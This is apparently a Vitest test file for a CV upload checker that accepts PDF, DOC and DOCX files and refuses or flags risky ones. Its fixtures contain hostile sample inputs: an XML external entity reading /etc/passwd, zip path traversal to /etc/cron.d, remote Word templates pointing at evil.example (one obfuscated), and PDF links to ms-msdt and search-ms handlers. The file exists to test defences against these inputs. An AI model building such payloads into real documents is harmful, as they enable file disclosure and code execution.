// @module-tag cv-check

import path from 'node:path';
import { corpusBytes, readCorpus } from '@website/tests/fixtures/cv-corpus/corpus.ts';
import { forgePdf, SCRIPTED_PDF } from '@website/tests/fixtures/cv-corpus/forged-pdf.ts';
import {
  contentTypes,
  forgeDocx,
  forgeZip,
  MAIN_PART,
} from '@website/tests/fixtures/cv-corpus/forged-zip.ts';
import { utils as compound, find, read, write } from 'cfb';
import { expect, test, vi } from 'vitest';
import { checkCv } from './check-cv.ts';
import { MAX_TEXT_BYTES } from './verdict.ts';

vi.setConfig({ testTimeout: 300_000 });

const ACCEPTED = readCorpus('accepted');
const PDF = corpusBytes('pdfkit-plain.pdf');
const DOC = corpusBytes('libreoffice-plain.doc');
const DOCX = corpusBytes('docx-plain.docx');
const SAYS = 'Tester with eight years of work';

const of = (...parts: readonly (Buffer | string)[]) =>
  checkCv(Buffer.concat(parts.map((part) => Buffer.from(part as string, 'latin1'))));

test.each(ACCEPTED)('$name is accepted by its type, with its text', async ({ name, bytes }) => {
  const verdict = await checkCv(bytes);
  expect(verdict).toMatchObject({ type: path.extname(name).slice(1), cautions: [] });
  expect('text' in verdict && verdict.text).toMatch(/CV|Tester with eight years/);
});

test.each(readCorpus('refused'))('$name is refused', async ({ name, bytes }) => {
  const kinds: Record<string, string> = { '.rtf': 'rtf', '.odt': 'openDocument', '.png': 'picture' };
  const ending = path.extname(name);
  const locked = ending === '.pdf' ? 'lockedPdf' : 'password';
  const refused = { refusal: 'kind', kind: kinds[ending] };
  expect(await checkCv(bytes)).toEqual(/password|locked/.test(name) ? { refusal: locked } : refused);
});

test.each([
  ['a byte order mark', '\xef\xbb\xbf'],
  ['an empty line', '\r\n'],
  ['the head of an answer', 'HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n'],
  ['the head of a message', 'MIME-Version: 1.0\nContent-Type: application/pdf; name="cv.pdf"\n\n'],
  ['the head of a file of old Macs', `\0\x06cv.pdf${'\0'.repeat(57)}PDF CARO${'\0'.repeat(55)}`],
])('a PDF behind %s is accepted', async (_, before) => {
  for (const pdf of [PDF, corpusBytes('object-streams.pdf'), corpusBytes('linearized.pdf')])
    expect(await of(before, pdf)).toMatchObject({
      type: 'pdf',
      text: expect.stringContaining(SAYS),
    });
});

test.each([
  ['zeros', '\0'.repeat(20_000)],
  ['lines', '\r\n'.repeat(3000)],
  ['text', 'Sent from my telephone. '.repeat(100)],
  ['another end', '\n%%EOF\nstartxref\n0\n%%EOF\n'],
  ['a page', '<!DOCTYPE html><html><body>Thank you for downloading</body></html>'],
  ['an update that repeats the header', '\n%PDF-1.4\n'],
])('a PDF with %s behind its end is accepted', async (_, behind) => {
  for (const pdf of [PDF, corpusBytes('object-streams.pdf'), corpusBytes('updated.pdf')])
    expect(await of(pdf, behind)).toMatchObject({ type: 'pdf', text: expect.stringContaining(SAYS) });
});

test.each([
  ['padding behind its end', (bytes: Buffer) => Buffer.concat([bytes, Buffer.alloc(3000)])],
  ['a line behind its end', (bytes: Buffer) => Buffer.concat([bytes, Buffer.from('\r\n')])],
  ['a part that Windows adds', () => forgeDocx([{ name: '[trash]/0000.dat', data: 'x' }])],
  [
    'its media type as OpenDocument has it',
    () => forgeZip([{ name: 'mimetype', data: 'x', isStored: true }, contentTypes(), MAIN_PART]),
  ],
  [
    'parts whose sizes follow them',
    () => forgeDocx([{ name: 'word/a.xml', data: 'x', flags: 8, sizeInHeader: 0 }]),
  ],
  [
    'another name of its main part',
    () =>
      forgeZip([
        contentTypes(undefined, '/word/document2.xml'),
        { ...MAIN_PART, name: 'word/document2.xml' },
        {
          name: '_rels/.rels',
          data: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document2.xml"/></Relationships>',
        },
      ]),
  ],
])('a DOCX with %s is accepted', async (_, change) => {
  expect(await checkCv(change(DOCX))).toMatchObject({ type: 'docx' });
});

test('a DOC with streams of other programs, or with names in other case, is accepted', async () => {
  const file = read(DOC, { type: 'buffer' });
  compound.cfb_add(file, '/MsoDataStore/item', Buffer.from('PK\x03\x04 and so on'));
  compound.cfb_add(file, '/ObjectPool/_1/Workbook', Buffer.from('a sheet'));
  expect(await checkCv(write(file, { type: 'buffer' }))).toMatchObject({ type: 'doc' });
  const made = compound.cfb_new();
  for (const name of ['WordDocument', '1Table', '0Table', 'Data']) {
    const stream = find(file, `/${name}`);
    if (stream !== null) compound.cfb_add(made, `/${name.toUpperCase()}`, stream.content);
  }
  expect(await checkCv(write(made, { type: 'buffer' }))).toMatchObject({
    type: 'doc',
    text: expect.stringContaining(SAYS),
  });
});

test('macros are refused: in streams of a DOC, in parts and content types of a DOCX', async () => {
  for (const storage of ['/Macros/VBA/dir', '/_VBA_PROJECT_CUR/VBA/dir']) {
    const file = read(DOC, { type: 'buffer' });
    compound.cfb_add(file, storage, Buffer.from('x'));
    expect(await checkCv(write(file, { type: 'buffer' }))).toEqual({ refusal: 'macros' });
  }
  const enabled = 'application/vnd.ms-word.document.macroEnabled.main+xml';
  expect(await checkCv(forgeDocx([{ name: 'word/vbaProject.bin', data: 'x' }]))).toEqual({
    refusal: 'macros',
  });
  expect(await checkCv(forgeZip([contentTypes(enabled), MAIN_PART]))).toEqual({ refusal: 'macros' });
});

test.each([
  ['of Word 6', 0xa5dc, 101],
  ['of Word 95', 0xa5dc, 104],
  ['of Word 95 in Japanese', 0xa699, 104],
])('a DOC %s is too old, not damaged', async (_, mark, form) => {
  const file = read(DOC, { type: 'buffer' });
  const stream = find(file, '/WordDocument');
  if (stream === null) throw new Error('there is no such stream');
  const bytes = Buffer.from(stream.content);
  bytes.writeUInt16LE(mark, 0);
  bytes.writeUInt16LE(form, 2);
  stream.content = bytes;
  expect(await checkCv(write(file, { type: 'buffer' }))).toEqual({ refusal: 'tooOld' });
});

test.each([
  ['nothing', '', undefined],
  ['text', 'Asha Example, tester', 'text'],
  [
    'a page that mentions a PDF',
    '<!DOCTYPE html><html><body>%PDF-1.7 startxref 0 %%EOF</body></html>',
    'page',
  ],
  ['a page in UTF-16', `\xff\xfe${Buffer.from('<html>', 'utf16le').toString('latin1')}`, 'page'],
  ['a page that Word saved as MHTML', 'MIME-Version: 1.0\nContent-Type: multipart/related', 'page'],
  ['XML', '<?xml version="1.0"?><w:wordDocument/>', 'xml'],
  ['rich text', '{\\rtf1\\ansi CV}', 'rtf'],
  ['a script', '#!/bin/sh\necho %PDF-\n', 'program'],
  ['a program of Windows', 'MZ\x90\0\x03\0\0\0', 'program'],
  ['a photograph', '\xff\xd8\xff\xe0\0\x10JFIF', 'picture'],
  ['a photograph of a phone', '\0\0\0\x18ftypheic\0\0\0\0', 'picture'],
  ['an empty archive', `PK\x05\x06${'\0'.repeat(18)}`, 'archive'],
  ['bytes', '\0\x01\x02\x03', undefined],
])('%s is refused as another kind of file', async (_, text, kind) => {
  expect(await of(text)).toEqual({ refusal: 'kind', ...(kind && { kind }) });
});

test('Word 2 is recognized as too old', async () => {
  expect(await of('\xdb\xa5\x2d\0', '\0'.repeat(2000))).toEqual({ refusal: 'tooOld' });
});

/** A compound file with only this stream. */
function compoundWith(stream: string): Buffer {
  const file = compound.cfb_new();
  compound.cfb_add(file, `/${stream}`, Buffer.from('x'));
  return write(file, { type: 'buffer' });
}

const archiveWith = (part: string) =>
  forgeZip([contentTypes('application/xml', `/${part}`), { name: part, data: PDF, isStored: true }]);

test.each([
  ['a spreadsheet', archiveWith('xl/workbook.xml'), 'spreadsheet'],
  ['a presentation', archiveWith('ppt/presentation.xml'), 'presentation'],
  ['a document of Pages', archiveWith('Index/Document.iwa'), 'pages'],
  ['an archive with a CV in it', archiveWith('cv/cv.pdf'), 'archive'],
  ['an older spreadsheet', compoundWith('Workbook'), 'spreadsheet'],
  ['a message', compoundWith('__properties_version1.0'), 'message'],
])('%s is refused by its kind', async (_, bytes, kind) => {
  expect(await checkCv(bytes)).toEqual({ refusal: 'kind', kind });
});

test.each([
  ['a PDF without a page', Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>')],
  ['a beginning of a PDF', PDF.subarray(0, 300)],
  ['half a DOCX', DOCX.subarray(0, DOCX.length / 2)],
  ['a beginning of a DOC', DOC.subarray(0, 600)],
  ['a DOCX without its document', forgeZip([contentTypes()])],
  ['a DOCX whose document is not XML', forgeZip([contentTypes(), { ...MAIN_PART, data: '<w:document' }])],
])('%s is damaged', async (_, bytes) => {
  expect(await checkCv(bytes)).toEqual({ refusal: 'damaged' });
});

test('external entities of a document are not resolved', async () => {
  const xml = `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${MAIN_PART.data}`.replace(
    '>CV<',
    '>CV &x;<',
  );
  expect(
    JSON.stringify(await checkCv(forgeZip([contentTypes(), { ...MAIN_PART, data: xml }]))),
  ).not.toContain('root:');
});

const template = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  data: `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
});

test.each<[string, Buffer, string[]]>([
  ['scripts', SCRIPTED_PDF, ['script']],
  [
    'files',
    forgePdf({
      catalog: '/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>',
      objects: ['<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>', '<</Length 1>>\nstream\nx\nendstream'],
    }),
    ['embedded'],
  ],
  ...['ms-msdt:/id', 'search-ms:query=cv', 'file:///c:/a.exe'].map(
    (address) =>
      [
        `a link to ${address}`,
        forgePdf({
          page: '/Annots[4 0 R]',
          objects: [`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${address})>>>>`],
        }),
        ['launch'],
      ] as [string, Buffer, string[]],
  ),
  [
    'a link',
    forgePdf({
      page: '/Annots[4 0 R]',
      objects: ['<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.example)>>>>'],
    }),
    [],
  ],
  ['a template of somebody else', forgeDocx([template('https://evil.example/t.dotm')]), ['template']],
  ['a template on a server', forgeDocx([template('file://server/share/t.dotm')]), ['template']],
  ['a template that is hidden', forgeDocx([template('&#104;ttps://evil.example/t.dotm')]), ['template']],
  ['a template of their own', forgeDocx([template('file:///C:/Users/asha/Normal.dotm')]), []],
])('a CV with %s gets its cautions', async (_, bytes, cautions) => {
  expect(await checkCv(bytes)).toMatchObject({ cautions });
});

test('path traversal, an encrypted part, and too many or too large parts each have their own refusal', async () => {
  const with_ = (part: object) => checkCv(forgeDocx([{ name: 'word/a.xml', data: 'x', ...part }]));
  expect(await with_({ name: '../../etc/cron.d/x' })).toEqual({ refusal: 'unsafe' });
  expect(await with_({ name: '/etc/cron.d/x' })).toEqual({ refusal: 'unsafe' });
  expect(await with_({ flags: 1 })).toEqual({ refusal: 'password' });
  expect(await with_({ size: 2_000_000_000 })).toEqual({ refusal: 'tooLarge' });
  const parts = Array.from({ length: 1999 }, (_, index) => ({ name: `word/media/${index}.png`, data: 'x' }));
  expect(await checkCv(forgeDocx(parts))).toEqual({ refusal: 'tooLarge' });
  expect(await checkCv(forgeDocx(parts.slice(1)))).toMatchObject({ type: 'docx' });
});

test.each([
  ['Chinese', 'GB1', 'UniGB-UCS2-H', '李明 工程师'],
  ['Japanese', 'Japan1', 'UniJIS-UCS2-H', '山田太郎'],
  ['Korean', 'Korea1', 'UniKS-UCS2-H', '김철수'],
])('the text of a %s CV without embedded fonts is read', async (_, ordering, encoding, text) => {
  const letters = Buffer.from(text, 'utf16le').swap16().toString('hex');
  const content = `BT /F 12 Tf 9 9 Td <${letters}> Tj ET`;
  const font = `<</Type/Font/Subtype/CIDFontType0/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(${ordering})/Supplement 0>>/DW 1000>>`;
  const pdf = forgePdf({
    page: '/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>',
    objects: [
      `<</Length ${content.length}>>\nstream\n${content}\nendstream`,
      `<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/${encoding}/DescendantFonts[6 0 R]>>`,
      font,
    ],
  });
  expect(await checkCv(pdf)).toMatchObject({ type: 'pdf', text });
});

test('a long text is truncated to the limit, between two code points', async () => {
  const paragraph = `<w:p><w:r><w:t>${'é𝄞 '.repeat(100)}</w:t></w:r></w:p>`;
  const data = String(MAIN_PART.data).replace('</w:body>', `${paragraph.repeat(500)}</w:body>`);
  const verdict = await checkCv(forgeZip([contentTypes(), { ...MAIN_PART, data }]));
  const text = 'text' in verdict ? verdict.text : '';
  expect(Buffer.byteLength(text)).toBeGreaterThan(MAX_TEXT_BYTES - 8);
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MAX_TEXT_BYTES);
  expect(text).not.toContain('\uFFFD');
});
